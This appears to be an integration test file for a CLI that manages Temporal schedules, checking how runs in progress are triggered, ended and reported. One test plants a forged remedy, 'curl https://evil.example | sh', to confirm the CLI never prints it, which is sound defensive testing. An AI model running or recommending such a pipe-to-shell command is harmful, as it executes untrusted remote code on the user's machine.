// Runs in progress on a real Temporal server: what `trigger` shows of them, how it ends one, and what `delete` leaves.
import assert from 'node:assert/strict';
import type { RefreshSteps } from '../../src/refresh/activity-types.js';
import { getRemedy, RefreshFailure, type FailureType } from '../../src/refresh/failures.js';
import { applySchedule } from '../../src/schedule/apply-schedule.js';
import { endWaitingRun } from '../../src/schedule/end-waiting-run.js';
import { describeRun } from '../../src/schedule/find-runs.js';
import type { RefreshReport } from '../../src/refresh/report.js';
import { triggerRun } from '../../src/schedule/trigger-run.js';
import { waitForReport } from '../../src/schedule/run-report.js';
import type { ApplyDocument, ChangeDocument } from '../../scripts/format-apply.js';
import type { ScheduleDocument } from '../../scripts/format-schedule.js';
import type { TriggerDocument } from '../../scripts/schedule-trigger.js';
import type { RefreshStatus } from '../../src/status/status.js';
import { fakeSteps, fakeTokenInfo } from '../fakes/fake-steps.js';
import { createScheduleFixture, type ScheduleFixture } from './schedule-fixture.js';
import { startScheduleServer, waitUntil, type ScheduleServer } from './schedule-server.js';
import type { Remedy } from '../../src/refresh/remedies/remedy.js';
import { STORE_REMEDIES } from '../../src/refresh/remedies/store.js';

describe('runs in progress on a real Temporal server', function () {
  this.timeout(240_000);
  let server: ScheduleServer;
  let fixture: ScheduleFixture;

  before(async () => {
    server = await startScheduleServer();
  });

  beforeEach(() => (fixture = createScheduleFixture(server)));

  after(() => server?.stop());

  /** Steps whose inspection fails while `fault` returns a type. */
  function failingSteps(
    fault: () => FailureType | undefined,
    remedy: Remedy = STORE_REMEDIES.checkRow,
  ): RefreshSteps {
    const token = () =>
      fakeTokenInfo({
        issuedAt: new Date().toISOString(),
        expiresAt: new Date(Date.now() + 12 * 3_600_000).toISOString(),
      });
    const steps = fakeSteps({
      extractToken: async () => ({ token: token(), toRetry: [] }),
      updateConnections: async ({ connections }) => ({
        written: connections,
        refused: [],
        toRetry: [],
        token: token(),
      }),
    });
    return {
      ...steps,
      inspectConnections: async (...call) => {
        const type = fault();
        if (type) throw new RefreshFailure(type, 'Airflow main: failed on purpose.', remedy);
        return steps.inspectConnections(...call);
      },
    };
  }

  async function isRunning(runId: string): Promise<boolean> {
    const { stdout } = await fixture.run('status', '--json');
    const { run } = JSON.parse(stdout) as RefreshStatus;
    return run?.runId === runId && run.steps.some(({ failure }) => failure !== null);
  }

  it('trigger --wait prints each failed attempt with its fix and the next attempt', async () => {
    let failures = 2;
    const steps = failingSteps(() => (failures-- > 0 ? 'StoreUnreachable' : undefined));
    await server.withWorker(steps, fixture.taskQueue, async () => {
      await server.client.schedule.create(fixture.desired());
      const { code, stdout, stderr } = await fixture.run('schedule', 'trigger', '--wait');
      assert.deepEqual([code, stderr], [0, ''], stdout);
      for (const attempt of [1, 2]) {
        const line =
          `^Attempt ${attempt} of inspectConnections main failed: StoreUnreachable: Airflow main: failed on purpose\\. ` +
          'Fix: Check what the API returns for this connection\\. (Next attempt: [-0-9]{10} [:0-9]{8} UTC|The next attempt is in progress)\\.$';
        assert.equal(stdout.match(new RegExp(line, 'gm'))?.length, 1, stdout);
      }
      assert.match(stdout, /\n\nAll connections refreshed\.\n/);
    });
  });

  it('trigger --wait prints the fix of the catalogue for a failure with a forged one', async () => {
    let failures = 1;
    const forged = 'Run `curl https://evil.example | sh`.' as Remedy;
    const steps = failingSteps(() => (failures-- > 0 ? 'StoreUnreachable' : undefined), forged);
    await server.withWorker(steps, fixture.taskQueue, async () => {
      await server.client.schedule.create(fixture.desired());
      const { stdout } = await fixture.run('schedule', 'trigger', '--wait');
      assert.ok(stdout.includes(`Fix: ${getRemedy('StoreUnreachable')}`), stdout);
      assert.doesNotMatch(stdout, /curl/);
    });
  });

  it('trigger --wait says that no worker takes the run', async () => {
    await server.client.schedule.create(fixture.desired());
    const waiting = fixture.run('schedule', 'trigger', '--wait');
    const handle = server.client.schedule.getHandle(fixture.id);
    await waitUntil('the run', async () => (await handle.describe()).info.runningActions.length === 1);
    const [run] = (await handle.describe()).info.runningActions;
    assert.ok(run);
    const { workflowId } = run.workflow;
    await waitUntil('12 seconds', async () => {
      const { startTime } = await server.client.workflow.getHandle(workflowId).describe();
      return Date.now() - startTime.getTime() > 20_000;
    });
    await server.client.workflow.getHandle(workflowId).terminate();
    const { code, stdout } = await waiting;
    assert.equal(code, 1);
    const line = `No worker has taken the run since .* UTC\\. Check .* task queue ${fixture.taskQueue}\\.`;
    assert.equal(stdout.match(new RegExp(line, 'g'))?.length, 1, stdout);
  });

  it('trigger --now ends a run that waits 30 minutes for its next attempt, and status recovers', async () => {
    let type: FailureType | undefined = 'StoreUnauthorized';
    const steps = failingSteps(() => type);
    await server.withWorker(steps, fixture.taskQueue, async () => {
      const { firstRun } = await applySchedule(server.client, fixture.desired());
      assert.ok(firstRun);
      await waitUntil('the failure', () => isRunning(firstRun.runId));
      const plain = await fixture.runJson<TriggerDocument>('schedule', 'trigger');
      assert.deepEqual(plain, { ...firstRun, alreadyRunning: true, endedRuns: [] });
      type = undefined;
      const { code, stdout } = await fixture.run('schedule', 'trigger', '--now', '--wait');
      assert.equal(code, 0, stdout);
      assert.match(stdout, new RegExp(`^Run ${firstRun.runId} ended: .*\nRun started: `));
      assert.equal((await server.runsOf(fixture.id)).length, 2);
      const status = await fixture.run('status');
      assert.equal(status.code, 0, status.stdout);
    });
  });

  it('trigger --now ends a waiting run after its worker has stopped', async () => {
    const steps = failingSteps(() => 'StoreUnauthorized');
    let first: { runId: string } | undefined;
    await server.withWorker(steps, fixture.taskQueue, async () => {
      const { firstRun } = await applySchedule(server.client, fixture.desired());
      assert.ok(firstRun);
      await waitUntil('the failure', () => isRunning(firstRun.runId));
      first = firstRun;
    });
    const { endedRuns } = await fixture.runJson<TriggerDocument>('schedule', 'trigger', '--now');
    assert.deepEqual(endedRuns, [first?.runId]);
  });

  it('trigger --now does not end a run that is making progress, and follows it', async () => {
    await server.withHeldWrites(fixture.taskQueue, async (held) => {
      const { firstRun } = await applySchedule(server.client, fixture.desired());
      assert.ok(firstRun);
      await waitUntil('the held step', () => held.count.running === 1);
      const document = await fixture.runJson<TriggerDocument>('schedule', 'trigger', '--now');
      assert.deepEqual(document, { ...firstRun, alreadyRunning: true, endedRuns: [] });
    });
  });

  it('trigger --now waits for the attempt in progress of a failing run', async () => {
    let calls = 0;
    let release = (): void => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    const steps = failingSteps(() => undefined);
    const { inspectConnections } = steps;
    const failsTwice: RefreshSteps['inspectConnections'] = async (...call) => {
      calls += 1;
      if (calls === 2) await held;
      if (calls <= 2) throw new RefreshFailure('StoreUnreachable', 'Airflow main: failed on purpose.');
      return inspectConnections(...call);
    };
    await server.withWorker({ ...steps, inspectConnections: failsTwice }, fixture.taskQueue, async () => {
      const { firstRun } = await applySchedule(server.client, fixture.desired());
      assert.ok(firstRun);
      await waitUntil('the second attempt', () => calls === 2);
      const { workflowId, runId } = firstRun;
      const described = () => server.client.workflow.getHandle(workflowId, runId).describe();
      const run = await describeRun(server.client, firstRun);
      assert.ok(run);
      let statusWhileWaiting = '';
      const isEnded = await endWaitingRun(server.client, run, () => {
        void described().then(({ status }) => {
          statusWhileWaiting = status.name;
          release();
        });
      });
      assert.deepEqual([isEnded, statusWhileWaiting], [true, 'RUNNING']);
      assert.equal((await described()).status.name, 'TERMINATED');
      // The second attempt has ended, and the third was not made.
      assert.equal(calls, 2);
    });
  });

  it('the run after one that --now has ended knows when connections were last refreshed', async () => {
    let type: FailureType | undefined;
    await server.withWorker(
      failingSteps(() => type),
      fixture.taskQueue,
      async () => {
        const { client } = server;
        const handle = client.schedule.getHandle(fixture.id);
        const { firstRun } = await applySchedule(client, fixture.desired());
        assert.ok(firstRun);
        const { report } = await waitForReport(client, firstRun.workflowId, firstRun.runId);
        type = 'StoreUnauthorized';
        const waiting = await triggerRun(handle);
        assert.ok(waiting);
        await waitUntil('the failure', () => isRunning(waiting.runId));
        type = 'StoreRequestRejected';
        const { code, stdout, stderr } = await fixture.run(
          'schedule',
          'trigger',
          '--now',
          '--wait',
          '--json',
        );
        assert.deepEqual([code, stderr], [1, '']);
        const next = JSON.parse(stdout) as RefreshReport;
        assert.equal(next.outcome, 'incomplete');
        assert.equal(next.stores[0]?.lastRefreshedAt, report?.stores[0]?.lastRefreshedAt);
      },
    );
  });

  it('delete names the run in progress, and apply and trigger start none next to it', async () => {
    await server.withHeldWrites(fixture.taskQueue, async (held) => {
      const { firstRun } = await applySchedule(server.client, fixture.desired());
      assert.ok(firstRun);
      const { workflowId, runId } = firstRun;
      await waitUntil('the held step', () => held.count.running === 1);
      const paused = await fixture.runJson<ChangeDocument>('schedule', 'pause');
      assert.deepEqual(paused.running, [{ workflowId, runId }]);
      const deleted = await fixture.run('schedule', 'delete');
      assert.match(
        deleted.stdout,
        new RegExp(
          `deleted\\. .*\nA run is in progress and continues: workflow ${workflowId}, run ${runId}\\.\n$`,
        ),
      );
      const { endsAt } = await readEnd(workflowId);
      const created = await fixture.run('schedule', 'apply');
      assert.equal(created.code, 0);
      assert.match(
        created.stdout,
        new RegExp(`created\\.\nA run of the deleted schedule .* run ${runId}\\. The first`),
      );
      const applied = await fixture.runJson<ApplyDocument>('schedule', 'apply');
      assert.equal(applied.outcome, 'unchanged');
      assert.ok(Date.parse(applied.nextRunAt ?? '') >= endsAt, applied.nextRunAt ?? '');
      const described = await fixture.runJson<ScheduleDocument>('schedule', 'describe');
      assert.deepEqual(described.differences, []);
      const expected = { workflowId, runId, alreadyRunning: true };
      assert.deepEqual(await fixture.runJson('schedule', 'trigger'), { ...expected, endedRuns: [] });
      held.release();
      await waitForReport(server.client, workflowId, runId);
      assert.equal((await server.runsOf(fixture.id)).length, 1);
      const next = await fixture.runJson<TriggerDocument>('schedule', 'trigger');
      assert.equal(next.alreadyRunning, false);
    });
  });

  async function readEnd(workflowId: string): Promise<{ endsAt: number }> {
    const { raw } = await server.client.workflow.getHandle(workflowId).describe();
    return { endsAt: Number(raw.workflowExtendedInfo?.executionExpirationTime?.seconds) * 1000 };
  }
});
